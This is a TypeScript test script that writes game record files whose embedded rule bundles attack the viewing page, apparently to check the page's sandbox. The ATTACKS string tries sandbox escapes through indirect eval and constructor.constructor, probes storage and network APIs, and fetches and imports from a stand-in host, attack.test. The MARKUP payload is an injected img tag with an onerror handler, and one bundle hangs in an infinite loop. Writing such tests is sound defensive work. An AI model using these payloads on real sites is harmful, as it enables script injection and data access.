/**
 * `node test/bundles/write-stranger.ts FOLDER`: writes games with rules that no server has, as `NAME.cmz`: `whole` and
 * `begun` have honest rules; the rules of the others attack the page.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseSetup } from '../../src/kernel/setup/setup.ts';
import { bundleOf } from '../../src/cli/bundle/external-bundles.ts';
import { loadBundle } from '../../src/server/bundles/load.ts';
import { annihilator } from '../../src/games/annihilator/index.ts';
import { start } from '../../src/kernel/engine.ts';
import { Sfc32 } from '../../src/kernel/random.ts';
import { encloseFile } from '../../src/study/enclosed.ts';
import { applyOperation, type StudyOperation } from '../../src/study/operations.ts';
import { chapterFrom } from '../../src/study/root.ts';
import { openStudy } from '../../src/study/study.ts';
import { writeStudy } from '../../src/study/study-file.ts';
import { Walker } from '../../src/study/walker.ts';
import { sealedDice } from '../../src/table/dice/dice.ts';
import { formatCmz } from '../../src/table/record/cmz.ts';
import { formatRecord } from '../../src/table/record/record.ts';
import { sha256Hex } from '../../src/table/record/sha256.ts';
import { gameById } from './changed/registry.ts';
import { playRandomly } from './play.ts';

const [folder = ''] = process.argv.slice(2);
const path = fileURLToPath(new URL('./changed/annihilator.ts', import.meta.url));
const { code, hash } = await bundleOf(gameById('annihilator'), path);
const { module } = loadBundle(code, hash);
const game = module.open(parseSetup(module, { scenario: 'learning' }));

/** Writes a game of at most `most` decisions under a bundle. */
function write(name: string, text: string, most?: number): number {
  const bundle = sha256Hex(text);
  const dice = sealedDice(`played-${name}`, '0f'.repeat(32));
  const table = playRandomly(game, bundle, name, most, dice);
  const record = formatRecord(table.record());
  writeFileSync(
    join(folder, `${name}.cmz`),
    formatCmz({ record, bundle: { hash: bundle, code: text } }),
  );
  return table.seq;
}

/**
 * Returns the bundle with parts of its interface replaced; `change` is the source of a function that changes the
 * interface.
 */
function changed(change: string, before = ''): string {
  const end = /export\s*\{(.*)\b(\w+) as play(.*)\};?\s*$/.exec(code);
  if (!end) throw new Error('the bundle exports play');
  const [whole, first = '', play = '', rest = ''] = end;
  const body = code.slice(0, -whole.length);
  return `${before};${body};const changedPlay = (${change})(${play});export{${first}changedPlay as play${rest}};`;
}

/** Tries everything that a script of a page could reach, and records what responded. */
const ATTACKS = `const reached = [];
const attempt = (name, work) => { try { if (work() !== undefined) reached.push(name); } catch {} };
const outside = (0, eval)('this');
const made = Function('return this')();
const constructed = [].constructor.constructor('return this')();
for (const realm of [outside, made, constructed, globalThis]) for (const name of ['document', 'window', 'self', 'parent', 'top',
  'localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookieStore', 'fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource',
  'navigator', 'location', 'history', 'importScripts', 'Worker', 'SharedWorker', 'BroadcastChannel', 'postMessage',
  'RTCPeerConnection', 'WebAssembly', 'setTimeout', 'queueMicrotask', 'requestAnimationFrame', 'crypto', 'performance', 'Date', 'process',
  'require', 'console', 'alert', 'open', 'opener', 'frames', 'customElements', 'Image', 'Notification', 'Intl'])
  attempt(name, () => realm[name]);
attempt('request', () => outside.fetch('https://attack.test/fetch'));
attempt('title', () => (outside.document.title = 'attacked'));
attempt('storage', () => outside.localStorage.setItem('attacked', '1'));
import('https://attack.test/import.mjs').then(() => reached.push('import'), () => {});
attempt('luck', () => Math.random());`;

/** Writes a study with a chapter that only the rules inside allow; its last move is not legal under ours. */
async function writeStudyFile(): Promise<void> {
  const study = openStudy('stranger', 'Stranger');
  const add = (operation: StudyOperation): void => {
    const why = applyOperation(study, operation);
    if (why) throw new Error(JSON.stringify(why));
  };
  const file = await encloseFile('bundle', code);
  if (!file) throw new Error('the bundle is too large for a study');
  add({ op: 'file', ...file });
  add(chapterFrom(game, { id: 'c1', name: 'Start', state: start(game), as: 'all', bundle: hash }));
  const chapter = study.chapters.get('c1');
  if (!chapter) throw new Error('no chapter');
  const walker = new Walker(game, chapter);
  const ours = new Walker(annihilator.open(game.setup), chapter);
  const rng = new Sfc32('stranger study');
  for (let at = 'c1'; !('why' in ours.find(at)); ) {
    const texts = walker.legalAt(at);
    const result = walker.move(at, texts[rng.below(texts.length)] ?? '');
    if ('refusal' in result) throw new Error(JSON.stringify(result.refusal));
    add(result.operation);
    at = result.operation.id;
  }
  writeFileSync(join(folder, 'study.cms'), await writeStudy(study));
}
await writeStudyFile();

const entries = write('whole', code);
write('begun', code, 6);
/** Puts the results of the attack into the messages that the page shows. */
write(
  'attack',
  changed(
    `(play) => ({ ...play, messages: (language) => Object.fromEntries(Object.entries(play.messages(language)).map(
      ([key, text]) => [key, key.startsWith('prompt') || key.startsWith('log') ? 'reached: ' + (reached.join() || 'nothing') : text])) })`,
    ATTACKS,
  ),
);
const MARKUP =
  '</text></svg><img class="attack" src="https://attack.test/image.png" onerror="document.title=1"><a class="attack">x</a>';
write(
  'markup',
  changed(`(play) => ({ ...play, messages: (language) => Object.fromEntries(Object.keys(play.messages(language)).map(
    (key) => [key, ${JSON.stringify(MARKUP)}])) })`),
);
write(
  'picture',
  changed(`(play) => ({ ...play, open: (setup) => { const game = play.open(setup); const { display } = game.data;
    const units = Object.fromEntries(Object.keys(display.art.units).map(
      (type) => [type, { symbol: '<image class="attack" href="https://attack.test/unit.png"/>' }]));
    return { ...game, data: { ...game.data, display: { ...display, art: { ...display.art, units } } } }; } })`),
);
write(
  'stuck',
  changed(
    `(play) => ({ ...play, open: (setup) => ({ ...play.open(setup), legal: () => { for (;;); } }) })`,
  ),
);
console.log(JSON.stringify({ entries }));
